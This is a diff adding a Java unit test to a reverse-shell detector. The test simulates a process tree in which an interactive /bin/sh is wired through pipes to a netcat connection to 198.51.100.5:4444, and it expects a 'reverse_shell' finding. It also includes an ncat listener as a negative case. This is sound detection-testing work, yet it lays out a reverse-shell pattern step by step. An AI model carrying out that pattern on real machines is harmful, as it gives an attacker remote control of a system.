@@ -61,6 +61,27 @@ class NetworkShellsTest {
     }
 
     @Test
+    void aShellInARingOfPipesWithAConnectionIsOneToo() {
+        MachineStory story = MachineStory.start();
+        story.workload()
+                .fork(INIT, 100)
+                .call(100, "SYSCALL_PIPE2", 0, 5, 6, 77, 0)
+                .call(100, "SYSCALL_PIPE2", 0, 7, 8, 78, 0)
+                .fork(100, 101)
+                .call(101, "SYSCALL_DUP2", 0, 5, 0)
+                .call(101, "SYSCALL_DUP2", 1, 8, 1)
+                .exec(101, "/bin/sh", "-i")
+                .fork(100, 102)
+                .call(102, "SYSCALL_DUP2", 0, 7, 0)
+                .call(102, "SYSCALL_OPENAT_2", 9, -100L, "/tmp/f", 2L, 0L, 0x4L, 77L)
+                .call(102, "SYSCALL_DUP2", 1, 9, 1)
+                .exec(102, "/bin/nc", "198.51.100.5", "4444");
+        story.connects(102, "198.51.100.5", 4444);
+
+        assertThat(story.rows("kind", "remote", "proc.pid")).containsExactly("reverse_shell 198.51.100.5:4444 101");
+    }
+
+    @Test
     void aCommandThatAServerRunsForARequestIsNone() {
         MachineStory story = MachineStory.start();
         story.workload().fork(INIT, 100).exec(100, "/usr/bin/ncat", "-l", "3333", "-c", "echo hello");
